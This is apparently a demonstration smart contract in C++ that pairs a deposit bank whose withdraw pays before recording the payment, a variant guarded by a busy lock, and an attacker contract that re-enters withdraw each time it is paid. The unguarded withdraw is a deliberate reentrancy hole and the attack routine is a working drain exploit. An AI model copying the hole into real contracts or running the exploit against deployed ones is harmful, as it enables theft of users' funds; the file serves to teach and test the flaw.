/* A bank that pays before it writes down that it paid, the same bank with a lock, and the contract that comes back for more. */
#include "echo.hpp"

class reentry : public contract_base {
 public:
  /* The bank. Whoever sends something has it here. */
  void deposit() { deposits[chain::get_sender()] += chain::get_send_value(); }

  void withdraw() {
    string who = chain::get_sender();
    int64_t amount = deposits[who];
    contract_object{who}.call(amount, 0, "received");
    deposits[who] = 0;
  }

  void locked_withdraw() {
    require(!is_busy, "One at a time.");
    is_busy = true;
    withdraw();
    is_busy = false;
  }

  /* The attacker: deposits, withdraws, and withdraws again whenever it is paid, as long as the bank has that much. */
  int64_t attack(const string &bank, const string &how, int64_t amount) {
    victim = bank;
    method = how;
    stake = amount;
    contract_object{bank}.call(amount, 0, "deposit");
    contract_object{bank}.call(0, 0, how);
    return account{id()}.get_balance("1.3.0");
  }
  void received() {
    string bank = victim;
    if (account{bank}.get_balance("1.3.0") >= stake) contract_object{bank}.call(0, 0, method.get());
  }

 private:
  DB_HASHMAP(string, int64_t, deposits)
  DB_BOOL(is_busy)
  DB_STRING(victim)
  DB_STRING(method)
  DB_INT64(stake)
};

MAIN(reentry, FUNC(deposit) FUNC(withdraw) FUNC(locked_withdraw) FUNC(attack) FUNC(received))
